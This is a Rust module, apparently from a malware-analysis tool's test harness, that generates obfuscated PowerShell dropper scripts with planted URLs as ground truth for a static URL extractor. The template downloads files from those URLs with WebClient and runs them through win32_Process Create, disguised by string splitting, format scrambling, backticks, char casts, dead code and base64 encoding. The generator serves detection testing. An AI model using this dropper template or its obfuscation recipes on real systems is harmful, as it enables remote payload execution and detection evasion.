//! Deterministic generator of obfuscated dropper look-alikes.
//!
//! Every generated script, run back through the static engine, must
//! yield exactly the planted URL list — the generator doubles as a
//! round-trip oracle for the whole pipeline.

use std::fmt::Write as _;
use std::path::Path;

use crate::extract::validate_url;
use crate::harness::GroundTruthEntry;

/// Obfuscation techniques the generator can apply, mirroring what the
/// dropper corpus exhibits.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Techniques {
    pub split_strings: bool,
    pub format_op: bool,
    pub replace_token: bool,
    pub char_cast: bool,
    pub backticks: bool,
    pub dead_code: bool,
    pub random_names: bool,
}

impl Techniques {
    pub fn all() -> Self {
        Techniques {
            split_strings: true,
            format_op: true,
            replace_token: true,
            char_cast: true,
            backticks: true,
            dead_code: true,
            random_names: true,
        }
    }

    pub fn none() -> Self {
        Techniques {
            split_strings: false,
            format_op: false,
            replace_token: false,
            char_cast: false,
            backticks: false,
            dead_code: false,
            random_names: false,
        }
    }

    /// Parse a comma-separated technique list; unknown names error.
    pub fn from_csv(csv: &str) -> Result<Self, String> {
        if csv.trim().eq_ignore_ascii_case("all") {
            return Ok(Self::all());
        }
        if csv.trim().eq_ignore_ascii_case("none") || csv.trim().is_empty() {
            return Ok(Self::none());
        }
        let mut t = Self::none();
        for name in csv.split(',') {
            match name.trim().to_lowercase().as_str() {
                "split-strings" => t.split_strings = true,
                "format-op" => t.format_op = true,
                "replace-token" => t.replace_token = true,
                "char-cast" => t.char_cast = true,
                "backticks" => t.backticks = true,
                "dead-code" => t.dead_code = true,
                "random-names" => t.random_names = true,
                other => return Err(format!("unknown technique `{other}`")),
            }
        }
        Ok(t)
    }
}

/// SplitMix64: tiny, portable, fully deterministic PRNG so generated
/// corpora are bit-identical across platforms and releases.
#[derive(Debug, Clone)]
pub struct Rng {
    state: u64,
}

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng { state: seed }
    }

    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform value in `0..bound` (bound > 0).
    pub fn below(&mut self, bound: usize) -> usize {
        (self.next_u64() % bound as u64) as usize
    }

    pub fn range(&mut self, lo: usize, hi_inclusive: usize) -> usize {
        lo + self.below(hi_inclusive - lo + 1)
    }

    pub fn chance(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

const LOWER: &[u8] = b"abcdefghijklmnopqrstuvwxyz";
const ALNUM: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
const UPPER_NUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";

fn random_word(rng: &mut Rng, alphabet: &[u8], len: usize) -> String {
    (0..len)
        .map(|_| alphabet[rng.below(alphabet.len())] as char)
        .collect()
}

struct NamePool {
    rng_names: bool,
    taken: Vec<String>,
    counter: usize,
}

impl NamePool {
    fn new(rng_names: bool) -> Self {
        NamePool {
            rng_names,
            taken: Vec::new(),
            counter: 0,
        }
    }

    fn fresh(&mut self, rng: &mut Rng, fallback: &str) -> String {
        if !self.rng_names {
            self.counter += 1;
            return format!("{}{}", fallback, self.counter);
        }
        loop {
            let first = (b'A' + rng.below(26) as u8) as char;
            let rest_len = rng.range(5, 8);
            let rest = random_word(rng, ALNUM, rest_len);
            let name = format!("{first}{rest}");
            if !self.taken.contains(&name) {
                self.taken.push(name.clone());
                return name;
            }
        }
    }
}

fn quote(piece: &str) -> String {
    let mut out = String::with_capacity(piece.len() + 2);
    out.push('\'');
    for c in piece.chars() {
        if c == '\'' {
            out.push('\'');
        }
        out.push(c);
    }
    out.push('\'');
    out
}

/// Break `text` into 1..=7-char chunks.
fn chunk(rng: &mut Rng, text: &str) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    let mut chunks = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let take = rng.range(1, 7).min(chars.len() - i);
        chunks.push(chars[i..i + take].iter().collect());
        i += take;
    }
    chunks
}

/// Render a run of chunks as a scrambled `-F` format expression.
fn format_run(rng: &mut Rng, run: &[String]) -> String {
    let mut order: Vec<usize> = (0..run.len()).collect();
    // Fisher-Yates
    for i in (1..order.len()).rev() {
        order.swap(i, rng.below(i + 1));
    }
    // template lists the original positions in scrambled arg order
    let mut position_of = vec![0usize; run.len()];
    for (arg_idx, &orig) in order.iter().enumerate() {
        position_of[orig] = arg_idx;
    }
    let template: String = position_of.iter().map(|k| format!("{{{k}}}")).collect();
    let args: Vec<String> = order.iter().map(|&i| quote(&run[i])).collect();
    format!("(\"{}\" -F {})", template, args.join(","))
}

/// Render chunks as a `+` chain with random grouping parentheses.
fn concat_chunks(rng: &mut Rng, chunks: &[String], allow_format: bool) -> String {
    let mut parts: Vec<String> = Vec::new();
    let mut i = 0;
    while i < chunks.len() {
        // occasionally scramble a short run through the format operator
        let run_len = rng.range(2, 4).min(chunks.len() - i);
        if allow_format
            && run_len >= 2
            && rng.chance(30)
            && chunks[i..i + run_len]
                .iter()
                .all(|c| !c.contains(['{', '}']))
        {
            parts.push(format_run(rng, &chunks[i..i + run_len]));
            i += run_len;
            continue;
        }
        let group = rng.range(1, 3).min(chunks.len() - i);
        if group > 1 && rng.chance(60) {
            let quoted: Vec<String> = chunks[i..i + group].iter().map(|c| quote(c)).collect();
            parts.push(format!("({})", quoted.join("+")));
            i += group;
        } else {
            parts.push(quote(&chunks[i]));
            i += 1;
        }
    }
    parts.join("+")
}

/// Insert backticks into a member name, never before `n`, `t` or `0`
/// (the escapes a double-quoted string would honour).
fn backtickify(rng: &mut Rng, name: &str) -> String {
    let mut out = String::new();
    for (i, c) in name.chars().enumerate() {
        if i > 0 && !matches!(c.to_ascii_lowercase(), 'n' | 't' | '0') && rng.chance(35) {
            out.push('`');
        }
        // random case mangling
        if rng.chance(50) {
            out.extend(c.to_uppercase());
        } else {
            out.extend(c.to_lowercase());
        }
    }
    out
}

fn member(rng: &mut Rng, name: &str, backticks: bool) -> String {
    if backticks {
        format!("\"{}\"", backtickify(rng, name))
    } else {
        name.to_string()
    }
}

fn dead_assignment(rng: &mut Rng, names: &mut NamePool) -> String {
    let name = names.fresh(rng, "junk");
    let word_len = rng.range(5, 9);
    let word = random_word(rng, ALNUM, word_len);
    let chunks = chunk(rng, &word);
    let quoted: Vec<String> = chunks.iter().map(|c| quote(c)).collect();
    format!("${}=({});", name, quoted.join("+"))
}

/// FNV-1a over the script bytes; used as the stable sample identifier.
pub fn content_hash(bytes: &[u8]) -> String {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        hash ^= b as u64;
        hash = hash.wrapping_mul(0x0000_0100_0000_01B3);
    }
    format!("{hash:016x}")
}

/// Generate one obfuscated dropper script embedding `urls`.
///
/// Deterministic under `seed`. Running the result through the static
/// engine recovers exactly `urls`; that property is the oracle the
/// test-suite sweeps. URLs must validate and must not contain the `@`
/// or `*` separators.
pub fn generate_synthetic_sample(
    urls: &[String],
    seed: u64,
    techniques: Techniques,
) -> (String, GroundTruthEntry) {
    assert!(!urls.is_empty(), "urls must be non-empty");
    for url in urls {
        assert!(
            validate_url(url).as_deref() == Some(url.as_str()),
            "url must be pre-normalized and valid: {url}"
        );
        assert!(
            !url.contains(['@', '*']),
            "url must not contain separator characters: {url}"
        );
    }
    let mut rng = Rng::new(seed);
    let mut names = NamePool::new(techniques.random_names);

    let client = names.fresh(&mut rng, "client");
    let path_var = names.fresh(&mut rng, "path");
    let urls_var = names.fresh(&mut rng, "urls");
    let loop_var = names.fresh(&mut rng, "item");

    let blob = urls.join("@");
    let mut script = String::new();

    // URL blob, optionally with the path separator indirected through a
    // replace token
    let (blob_text, replace_suffix) = if techniques.replace_token {
        let token = loop {
            let cand = format!("={}", random_word(&mut rng, UPPER_NUM, 4));
            if !blob.contains(&cand) {
                break cand;
            }
        };
        let needle_expr = if techniques.split_strings {
            let token_chunks = chunk(&mut rng, &token);
            let quoted: Vec<String> = token_chunks.iter().map(|c| quote(c)).collect();
            format!("({})", quoted.join("+"))
        } else {
            quote(&token)
        };
        (
            blob.replace('/', &token),
            format!(
                ".{}({},'/')",
                member(&mut rng, "replace", techniques.backticks),
                needle_expr
            ),
        )
    } else {
        (blob.clone(), String::new())
    };

    let blob_expr = if techniques.split_strings {
        let chunks = chunk(&mut rng, &blob_text);
        concat_chunks(&mut rng, &chunks, techniques.format_op)
    } else {
        quote(&blob_text)
    };

    // split character, optionally assembled from unbound variables and
    // a char cast
    let split_arg = if techniques.char_cast {
        let sc_var = names.fresh(&mut rng, "sc");
        let ghost_a = names.fresh(&mut rng, "ghostA");
        let ghost_b = names.fresh(&mut rng, "ghostB");
        let _ = writeln!(
            script,
            "${sc_var}=${ghost_a} + [char](64) + ${ghost_b};"
        );
        format!("${sc_var}")
    } else {
        quote("@")
    };

    if techniques.dead_code {
        for _ in 0..rng.range(1, 3) {
            let line = dead_assignment(&mut rng, &mut names);
            let _ = writeln!(script, "{line}");
        }
    }

    // drop path for the skeleton loop
    let exe_len = rng.range(4, 8);
    let exe = random_word(&mut rng, LOWER, exe_len);
    let dir_len = rng.range(4, 8);
    let dir = random_word(&mut rng, LOWER, dir_len);
    if techniques.char_cast {
        let sep_token = loop {
            let cand = random_word(&mut rng, LOWER, 3);
            if !dir.contains(&cand) && !exe.contains(&cand) {
                break cand;
            }
        };
        let mangled = format!("{sep_token}{dir}{sep_token}{exe}.exe");
        let _ = writeln!(
            script,
            "${path_var}=$HOME+(({}).{}({},[StriNG][Char]92));",
            quote(&mangled),
            member(&mut rng, "replace", techniques.backticks),
            quote(&sep_token),
        );
    } else {
        let _ = writeln!(script, "${path_var}=({}+{});", quote(&dir), quote(&exe));
    }

    if techniques.dead_code {
        let line = dead_assignment(&mut rng, &mut names);
        let _ = writeln!(script, "{line}");
    }

    // webclient + URL array + download loop, the dropper skeleton
    let new_object = if techniques.split_strings {
        ".('new-'+'obj'+'ect')"
    } else {
        "new-object"
    };
    let _ = writeln!(script, "${client}={new_object} NET.WebClient;");
    let _ = writeln!(
        script,
        "${urls_var}=({blob_expr}){replace_suffix}.{}({split_arg});",
        member(&mut rng, "split", techniques.backticks),
    );

    let threshold = rng.range(10_000, 99_999);
    let dead_tail = if techniques.dead_code {
        format!("break;{}", dead_assignment(&mut rng, &mut names))
    } else {
        "break;".to_string()
    };
    let _ = writeln!(
        script,
        "foreach (${loop_var} in ${urls_var}){{try{{${client}.{}(${loop_var}, ${path_var});If ((&('Ge'+'t'+'-Item') ${path_var}).{} -ge {threshold}) {{([wmiclass]('win'+'32_Process')).{}(${path_var});{dead_tail}}}}}catch{{}}}}",
        member(&mut rng, "DownloadFile", techniques.backticks),
        member(&mut rng, "Length", techniques.backticks),
        member(&mut rng, "Create", techniques.backticks),
    );

    if techniques.dead_code {
        let line = dead_assignment(&mut rng, &mut names);
        let _ = writeln!(script, "{line}");
    }

    let entry = GroundTruthEntry {
        sample_id: content_hash(script.as_bytes()),
        script_path: String::new(),
        urls: urls.to_vec(),
    };
    (script, entry)
}

/// Generate a random URL set for one synthetic sample: 4..=9 URLs, one
/// domain each (the corpus averages 6.6 per script).
pub fn random_urls(rng: &mut Rng) -> Vec<String> {
    let count = rng.range(4, 9);
    let mut urls = Vec::with_capacity(count);
    let mut seen_domains: Vec<String> = Vec::new();
    while urls.len() < count {
        let scheme = if rng.chance(70) { "https" } else { "http" };
        let label_len = rng.range(5, 12);
        let label = random_word(rng, LOWER, label_len);
        let tld = rng.pick(&["com", "net", "org", "eu", "co", "info"]);
        let domain = format!("{label}.{tld}");
        if seen_domains.contains(&domain) {
            continue;
        }
        let segments = rng.range(1, 3);
        let mut path = String::new();
        for _ in 0..segments {
            path.push('/');
            let seg_len = rng.range(2, 8);
            path.push_str(&random_word(rng, ALNUM, seg_len));
        }
        path.push('/');
        seen_domains.push(domain.clone());
        urls.push(format!("{scheme}://{domain}{path}"));
    }
    urls
}

/// How a generated sample is stored on disk.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SampleEncoding {
    Plain,
    Base64Utf16Le,
    Base64Utf8,
}

pub fn encode_sample(script: &str, encoding: SampleEncoding) -> Vec<u8> {
    use base64::Engine as _;
    match encoding {
        SampleEncoding::Plain => script.as_bytes().to_vec(),
        SampleEncoding::Base64Utf16Le => {
            let utf16: Vec<u8> = script
                .encode_utf16()
                .flat_map(|u| u.to_le_bytes())
                .collect();
            base64::engine::general_purpose::STANDARD
                .encode(utf16)
                .into_bytes()
        }
        SampleEncoding::Base64Utf8 => base64::engine::general_purpose::STANDARD
            .encode(script.as_bytes())
            .into_bytes(),
    }
}

/// Write `count` synthetic samples plus the matching truth JSONL.
/// Samples cycle through the on-disk encodings the pipeline accepts.
pub fn write_corpus(
    dir: &Path,
    count: usize,
    seed: u64,
    techniques: Techniques,
) -> std::io::Result<Vec<GroundTruthEntry>> {
    std::fs::create_dir_all(dir)?;
    let mut entries = Vec::with_capacity(count);
    let mut truth_lines = String::new();
    for i in 0..count {
        let sample_seed = seed
            .wrapping_mul(0x9E37_79B9_7F4A_7C15)
            .wrapping_add(i as u64);
        let mut rng = Rng::new(sample_seed ^ 0x5DEE_CE66);
        let urls = random_urls(&mut rng);
        let (script, mut entry) =
            generate_synthetic_sample(&urls, sample_seed, techniques);
        let encoding = match i % 7 {
            3 => SampleEncoding::Base64Utf16Le,
            5 => SampleEncoding::Base64Utf8,
            _ => SampleEncoding::Plain,
        };
        let file_name = format!("sample_{i:05}.ps1");
        std::fs::write(dir.join(&file_name), encode_sample(&script, encoding))?;
        entry.script_path = file_name;
        truth_lines.push_str(&serde_json::to_string(&entry).expect("serializable entry"));
        truth_lines.push('\n');
        entries.push(entry);
    }
    std::fs::write(dir.join("truth.jsonl"), truth_lines)?;
    Ok(entries)
}
